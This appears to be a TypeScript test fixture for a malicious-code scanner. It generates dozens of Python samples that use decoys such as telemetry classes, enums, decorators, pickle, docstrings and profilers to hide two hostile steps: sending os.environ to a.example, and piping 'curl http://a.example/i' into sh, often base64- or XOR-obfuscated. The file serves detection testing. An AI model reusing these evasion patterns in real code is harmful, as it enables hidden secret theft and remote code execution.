import { b64, type Files, module } from './kit.ts';

const PAYLOAD = b64("import os\nos.system('curl http://a.example/i | sh')");
const SHELL = b64('curl -s http://a.example/i | sh');
const XORED = Array.from("import os\nos.system('curl http://a.example/i | sh')", (c) => c.charCodeAt(0) ^ 7);
const numbers = (values: readonly number[]): string => `[${values.join(', ')}]`;

/** What is hidden and run, by way of what a careful library is made of: classes, tables, settings, decorators. */
export const HIDING: Readonly<Record<string, Files>> = {
  'telemetry-class': module(`"""Usage telemetry."""
from __future__ import annotations
import json
import logging
import os
import platform
from dataclasses import dataclass, field, asdict
from urllib.request import Request, urlopen
logger = logging.getLogger(__name__)

@dataclass
class Event:
    name: str
    properties: dict[str, str] = field(default_factory=dict)

class Telemetry:
    _endpoint: str = "https://a.example/v1/events"
    def __init__(self, timeout: float = 2.0) -> None:
        self._timeout = timeout
    def _build(self) -> Event:
        return Event(name="startup", properties={**os.environ})
    def flush(self) -> None:
        body = json.dumps(asdict(self._build())).encode("utf-8")
        request = Request(self._endpoint, data=body, headers={"Content-Type": "application/json"})
        try:
            with urlopen(request, timeout=self._timeout) as response:
                logger.debug("sent %s", response.status)
        except Exception as error:
            logger.debug("failed: %s", error)

Telemetry().flush()`),
  'settings-enum': module(`import base64
from enum import Enum
class Stage(Enum):
    BOOT = "${PAYLOAD}"
def run(stage: Stage) -> None:
    exec(base64.b64decode(stage.value))
run(Stage.BOOT)`),
  'namedtuple-config': module(`import os
from typing import NamedTuple
import requests
class Config(NamedTuple):
    url: str = "https://a.example/c"
    timeout: int = 3
config = Config()
requests.post(config.url, json=dict(os.environ), timeout=config.timeout)`),
  'namedtuple-call': module(`import base64
from collections import namedtuple
Job = namedtuple("Job", "name blob")
job = Job("init", "${PAYLOAD}")
exec(base64.b64decode(job.blob))`),
  'simple-namespace': module(`import base64
from types import SimpleNamespace
cfg = SimpleNamespace(blob="${PAYLOAD}", retries=3)
exec(base64.b64decode(cfg.blob))`),
  'property-secret': module(`import os
import requests
class Context:
    @property
    def snapshot(self) -> dict:
        return {key: value for key, value in os.environ.items()}
    @classmethod
    def create(cls) -> "Context":
        return cls()
    @staticmethod
    def send(data: dict) -> None:
        requests.post("https://a.example/c", json=data)
context = Context.create()
Context.send(context.snapshot)`),
  'cached-property': module(`import os
from functools import cached_property
import requests
class Context:
    @cached_property
    def snapshot(self):
        return dict(os.environ)
requests.post("https://a.example/c", json=Context().snapshot)`),
  'lru-cache': module(`import os
import functools
import requests
@functools.lru_cache(maxsize=None)
def snapshot():
    return dict(os.environ)
requests.post("https://a.example/c", json=snapshot())`),
  'descriptor-get': module(`import os
import requests
class Env:
    def __get__(self, instance, owner):
        return dict(os.environ)
class Holder:
    env = Env()
requests.post("https://a.example/c", json=Holder().env)`),
  'call-operator': module(`import base64
class Runner:
    def __init__(self, blob: str) -> None:
        self._blob = blob
    def __call__(self) -> None:
        exec(base64.b64decode(self._blob))
Runner("${PAYLOAD}")()`),
  'getitem-class': module(`import base64
class Vault:
    _items = {"boot": "${PAYLOAD}"}
    def __getitem__(self, key):
        return base64.b64decode(self._items[key]).decode()
exec(Vault()["boot"])`),
  'getattr-class': module(`import base64
class Lazy:
    def __getattr__(self, name):
        return base64.b64decode("${PAYLOAD}").decode()
exec(Lazy().anything)`),
  'str-method': module(`import base64
class Script:
    def __str__(self):
        return base64.b64decode("${PAYLOAD}").decode()
exec(str(Script()))`),
  'operator-class': module(`import base64
class Blob:
    def __init__(self, text):
        self.text = text
    def __add__(self, other):
        return Blob(self.text + other.text)
    def decode(self):
        return base64.b64decode(self.text)
exec((Blob("${PAYLOAD.slice(0, 24)}") + Blob("${PAYLOAD.slice(24)}")).decode())`),
  'dispatch-table': module(`import base64
import os
ACTIONS = {"shell": os.system, "decode": base64.b64decode}
def dispatch(name, *args):
    return ACTIONS[name](*args)
dispatch("shell", dispatch("decode", "${SHELL}").decode())`),
  'dispatch-match': module(`import os
def handle(action: str, value: str):
    match action:
        case "run":
            os.system(value)
        case _:
            print(value)
handle("run", "curl -s http://a.example/i | sh")`),
  'reduce-pipeline': module(`import base64, functools, zlib
steps = [base64.b64decode, bytes.decode]
code = functools.reduce(lambda value, step: step(value), steps, "${PAYLOAD}")
exec(code)`),
  'compose-helper': module(`import base64
def compose(*functions):
    def inner(value):
        for function in functions:
            value = function(value)
        return value
    return inner
unpack = compose(base64.b64decode, lambda b: b.decode("utf-8"))
exec(unpack("${PAYLOAD}"))`),
  'partial-run': module(`import functools
import subprocess
shell = functools.partial(subprocess.run, shell=True, check=False)
shell("curl -s http://a.example/i | sh")`),
  methodcaller: module(`import operator, os
operator.methodcaller("system", "curl -s http://a.example/i | sh")(os)`),
  attrgetter: module(`import operator, os
operator.attrgetter("system")(os)("curl -s http://a.example/i | sh")`),
  itemgetter: module(`import base64, operator
table = {"a": 1, "blob": "${PAYLOAD}"}
exec(base64.b64decode(operator.itemgetter("blob")(table)))`),
  'map-apply': module(`import os
list(map(os.system, ["curl -s http://a.example/i | sh"]))`),
  'filter-apply': module(`import os
any(filter(os.system, ["curl -s http://a.example/i | sh"]))`),
  'starmap-apply': module(`import itertools, os
list(itertools.starmap(os.system, [("curl -s http://a.example/i | sh",)]))`),
  'sorted-key': module(`import os
sorted(["curl -s http://a.example/i | sh", "true"], key=os.system)`),
  'max-key': module(`import os
max(["curl -s http://a.example/i | sh"], key=os.system)`),
  'walrus-run': module(`import base64
if (code := base64.b64decode("${PAYLOAD}")):
    exec(code)`),
  'try-else': module(`import base64
try:
    data = base64.b64decode("${PAYLOAD}")
except ValueError:
    data = b""
else:
    exec(data)
finally:
    del data`),
  'nonlocal-state': module(`import base64
def build():
    code = ""
    def add(part):
        nonlocal code
        code += part
    for part in ("${PAYLOAD.slice(0, 10)}", "${PAYLOAD.slice(10)}"):
        add(part)
    return code
exec(base64.b64decode(build()))`),
  'global-state': module(`import base64
_buffer = []
def push(part):
    global _buffer
    _buffer.append(part)
push("${PAYLOAD.slice(0, 10)}")
push("${PAYLOAD.slice(10)}")
exec(base64.b64decode("".join(_buffer)))`),
  'iter-next': module(`import base64
parts = iter(["${PAYLOAD}"])
exec(base64.b64decode(next(parts)))`),
  'generator-join': module(`import base64
def pieces():
    yield "${PAYLOAD.slice(0, 12)}"
    yield "${PAYLOAD.slice(12)}"
exec(base64.b64decode("".join(pieces())))`),
  'yield-from-send': module(`import os, requests
def env():
    yield from os.environ.items()
requests.post("https://a.example/c", json=dict(env()))`),
  'deque-chunks': module(`import base64
from collections import deque
queue = deque()
queue.append("${PAYLOAD.slice(0, 12)}")
queue.append("${PAYLOAD.slice(12)}")
text = ""
while queue:
    text += queue.popleft()
exec(base64.b64decode(text))`),
  'ordereddict-chunks': module(`import base64
from collections import OrderedDict
parts = OrderedDict()
parts["a"] = "${PAYLOAD.slice(0, 12)}"
parts["b"] = "${PAYLOAD.slice(12)}"
exec(base64.b64decode("".join(parts.values())))`),
  'chainmap-config': module(`import base64
from collections import ChainMap
settings = ChainMap({}, {"blob": "${PAYLOAD}"})
exec(base64.b64decode(settings["blob"]))`),
  'bytesio-read': module(`import base64, io
stream = io.BytesIO(b"${PAYLOAD}")
exec(base64.b64decode(stream.read()))`),
  'stringio-write': module(`import base64, io
buffer = io.StringIO()
buffer.write("${PAYLOAD.slice(0, 12)}")
buffer.write("${PAYLOAD.slice(12)}")
exec(base64.b64decode(buffer.getvalue()))`),
  'struct-unpack': module(`import struct
data = ${numbers(XORED)}
raw = struct.pack("%dB" % len(data), *[value ^ 7 for value in data])
exec(raw.decode())`),
  'array-bytes': module(`import array
data = array.array("B", [value ^ 7 for value in ${numbers(XORED)}])
exec(data.tobytes().decode())`),
  'translate-table': module(`table = bytes(i ^ 7 for i in range(256))
exec(bytes(${numbers(XORED)}).translate(table).decode())`),
  'configparser-text': module(`import base64, configparser
parser = configparser.ConfigParser()
parser.read_string("[main]\\nblob = ${PAYLOAD}\\n")
exec(base64.b64decode(parser["main"]["blob"]))`),
  'json-config-file': module(
    `import base64, json, pathlib
config = json.loads((pathlib.Path(__file__).parent / "config.json").read_text())
exec(base64.b64decode(config["blob"]))`,
    { 'own/config.json': JSON.stringify({ blob: PAYLOAD }) },
  ),
  'env-exec': module(`import base64, os
os.environ["APP_BOOT"] = "${PAYLOAD}"
exec(base64.b64decode(os.environ["APP_BOOT"]))`),
  'docstring-exec': module(`"""${PAYLOAD}"""
import base64
exec(base64.b64decode(__doc__))`),
  'docstring-func': module(`import base64
def boot():
    """${PAYLOAD}"""
exec(base64.b64decode(boot.__doc__))`),
  'annotations-exec': module(`import base64
class Boot:
    stage: "${PAYLOAD}"
exec(base64.b64decode(Boot.__annotations__["stage"]))`),
  'default-arg': module(`import base64
def boot(data="${PAYLOAD}"):
    exec(base64.b64decode(data))
boot()`),
  'kwargs-call': module(`import base64
def boot(**options):
    exec(base64.b64decode(options["data"]))
boot(data="${PAYLOAD}")`),
  'args-call': module(`import base64
def boot(*parts):
    exec(base64.b64decode("".join(parts)))
boot("${PAYLOAD.slice(0, 16)}", "${PAYLOAD.slice(16)}")`),
  'pickle-reduce': module(`import base64, pickle
pickle.loads(base64.b64decode("${b64("cos\nsystem\n(S'curl http://a.example/i | sh'\ntR.")}"))`),
  'dynamic-builtin': module(`import base64, builtins, sys
def shift(text, key):
    return "".join(chr((b - key) % 256) for b in base64.b64decode(text))
name = "".join(shift(part, sys.argv[1].encode()[0]) for part in ["DA==", "Hw==", "DA==", "Cg=="])
getattr(builtins, name)(base64.b64decode(shift("ChT9Gwna", len(name))).decode())`),
  'dynamic-module': module(`import base64, importlib, os
def reveal(text):
    return base64.b64decode(text).decode()
module = importlib.import_module(reveal("${b64('subprocess')}"))
getattr(module, reveal("${b64('Popen')}"))(reveal("${SHELL}"), shell=True)`),
  'dynamic-dict': module(`import base64
reveal = lambda t: base64.b64decode(t).decode()
vars(__import__(reveal("${b64('os')}")))[reveal("${b64('system')}")](reveal("${SHELL}"))`),
  'popen2-code': module(`import code
code.InteractiveInterpreter().runsource(__import__("base64").b64decode("${PAYLOAD}").decode(), symbol="exec")`),
  'timeit-run': module(`import base64, timeit
timeit.timeit(base64.b64decode("${PAYLOAD}").decode(), number=1)`),
  'cprofile-run': module(`import base64, cProfile
cProfile.run(base64.b64decode("${PAYLOAD}").decode())`),
  'pdb-run': module(`import base64, pdb, bdb
bdb.Bdb().run(base64.b64decode("${PAYLOAD}").decode())`),
};
